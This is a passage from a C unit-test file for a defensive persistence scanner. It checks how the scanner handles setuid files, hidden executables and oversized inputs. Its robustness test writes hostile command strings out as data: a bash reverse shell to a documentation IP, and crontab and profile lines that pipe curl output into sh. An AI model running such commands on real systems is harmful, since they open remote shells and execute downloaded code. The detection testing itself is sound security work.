    assert_non_null(fin_find(&x, "persistence.sshd-permit-root-login", "etc/ssh/sshd_config"));
    assert_true(x.fc.problems.len >= 1);
    fin_free(&x);
}

static void
test_finish_fs(void **state)
{
    static const char elf[64] = "\x7f" "ELF\x02\x01\x01";
    struct fin x;
    const struct finish_finding *ff;
    const char *status = "Package: passwd\nStatus: install ok installed\nArchitecture: amd64\n"
                         "Version: 1:4.13+dfsg1-1+b1\n";

    (void)state;
    feed_init(&x.f, 0);
    assert_int_equal(feed_file(&x.f, &analyzer_dpkg, "var/lib/dpkg/status", status,
                               strlen(status), 0),
                     0);
    assert_int_equal(feed_file(&x.f, &analyzer_dpkg, "var/lib/dpkg/info/passwd.list",
                               "/.\n/usr\n/usr/bin\n/usr/bin/passwd\n", 33, 0),
                     0);
    fin_feed(&x, "usr/bin/passwd", "x", 04755);          /* owned: not a finding */
    fin_feed(&x, "usr/local/bin/rootme", "x", 04755);    /* nobody owns it */
    fin_feed(&x, "var/lib/.cache/sh", "x", 06755);       /* hidden setuid */
    fin_feed(&x, "tmp/kdevtmpfsi", "x", 0755);           /* executable in /tmp */
    fin_feed(&x, "root/.configrc/a/upd", "x", 0755);     /* hidden executable */
    fin_feed(&x, "root/.venv/bin/python", "x", 0755);    /* a virtualenv: fine */
    fin_feed(&x, "root/.local/bin/pip", "x", 0755);      /* pip --user: fine */
    fin_feed(&x, "usr/local/bin/app", "x", 0755);        /* ordinary */
    fin_feed(&x, "srv/.cache/pip/wheel.whl", "x", 0644); /* not executable */
    assert_int_equal(feed_file(&x.f, &analyzer_persistence, "var/tmp/.ICE/x", elf, sizeof(elf),
                               0644),
                     0); /* an ELF without exec bits */
    fin_run(&x, NULL);
    ff = fin_find(&x, "persistence.setuid-unowned", "usr/local/bin/rootme");
    assert_non_null(ff);
    assert_string_equal(ff->f.evidence,
                        "setuid file, mode 4755, uid 0, gid 0, 1 bytes, no package owns it");
    ff = fin_find(&x, "persistence.setuid-hidden", "var/lib/.cache/sh");
    assert_non_null(ff);
    assert_string_equal(ff->f.severity, "critical");
    assert_non_null(fin_find(&x, "persistence.exec-in-tmp", "tmp/kdevtmpfsi"));
    assert_non_null(fin_find(&x, "persistence.exec-in-hidden", "root/.configrc/a/upd"));
    ff = fin_find(&x, "persistence.exec-in-tmp", "var/tmp/.ICE/x");
    assert_non_null(ff);
    assert_non_null(strstr(ff->f.evidence, "an ELF program without exec bits"));
    assert_int_equal(x.fc.findings.len, 5);
    fin_free(&x);
}

/* Switched off by the options: not even wants() matters then. */
static void
test_off(void **state)
{
    struct feed f;
    void *st = (void *)1;
    char err[64];

    (void)state;
    feed_init(&f, 0);
    f.opt.detect.enabled = MOAT_DETECT_ALL & ~MOAT_DETECT_PERSISTENCE;
    assert_int_equal(analyzer_persistence.init(&f.opt, NULL, &st, err, sizeof(err)), 0);
    assert_null(st);
    f.opt.detect.enabled = MOAT_DETECT_PERSISTENCE;
    assert_int_equal(analyzer_persistence.init(&f.opt, NULL, &st, err, sizeof(err)), 0);
    assert_non_null(st);
    feed_free(&f);
}

/* Pathological shapes stay linear and bounded. */
static void
test_pathological(void **state)
{
    size_t n = 1u << 20, i;
    char *buf = malloc(n + 1);
    struct feed f;

    (void)state;
    assert_non_null(buf);
    /* 1 MiB of "$(" : nesting beyond the limit is skipped, not recursed */
    for (i = 0; i + 2 <= n; i += 2)
        memcpy(buf + i, "$(", 2);
    buf[n] = '\0';
    feed_init(&f, 0);
    assert_int_equal(feed_file(&f, &analyzer_persistence, "etc/rc.local", buf, n, 0), 0);
    feed_free(&f);
    /* one 1 MiB line of reverse shells: one finding per rule and line */
    for (i = 0; i + 40 <= n; i += 40)
        memcpy(buf + i, "bash -i >& /dev/tcp/203.0.113.5/1 0>&1;", 40);
    feed_init(&f, 0);
    assert_int_equal(feed_file(&f, &analyzer_persistence, "etc/rc.local", buf, i, 0), 0);
    assert_non_null(nth_finding(&f, 0));
    assert_null(nth_finding(&f, 1));
    feed_free(&f);
    /* 20,000 bad lines: MOAT_LIMIT_PERSIST_FINDINGS listed, the rest counted */
    for (i = 0; i + 50 <= n && i < 50 * 20000; i += 50)
        memcpy(buf + i, "* * * * * root curl http://h.example/x|sh #......\n", 50);
    feed_init(&f, 0);
    assert_int_equal(feed_file(&f, &analyzer_persistence, "etc/crontab", buf, i, 0), 0);
    assert_non_null(nth_finding(&f, MOAT_LIMIT_PERSIST_FINDINGS - 1));
    assert_null(nth_finding(&f, MOAT_LIMIT_PERSIST_FINDINGS));
    assert_int_equal(feed_nproblems(&f, MOAT_WARN), 1);
    feed_free(&f);
    /* unbalanced quotes and parentheses to the end of the file */
    feed_init(&f, 0);
    assert_int_equal(feed_file(&f, &analyzer_persistence, "etc/profile",
                               "echo \"$(curl x | sh ' ( { `", 28, 0),
                     0);
    feed_free(&f);
    /* larger than the cap: not read, and said */
    feed_init(&f, 0);
    buf = realloc(buf, MOAT_LIMIT_PERSIST_FILE + 2);
    assert_non_null(buf);
    memset(buf, 'a', MOAT_LIMIT_PERSIST_FILE + 1);
    assert_int_equal(feed_file(&f, &analyzer_persistence, "etc/crontab", buf,
                               MOAT_LIMIT_PERSIST_FILE + 1, 0),
                     0);
    assert_int_equal(feed_nproblems(&f, MOAT_FAILED), 1);
    feed_free(&f);
    free(buf);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_attacks),
        cmocka_unit_test(test_benign),
        cmocka_unit_test(test_evidence),
        cmocka_unit_test(test_passwd_shadow),
        cmocka_unit_test(test_authorized_keys),
        cmocka_unit_test(test_paths),
        cmocka_unit_test(test_finish_preload_config),
        cmocka_unit_test(test_finish_sshd),
        cmocka_unit_test(test_finish_fs),
        cmocka_unit_test(test_off),
        cmocka_unit_test(test_pathological),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
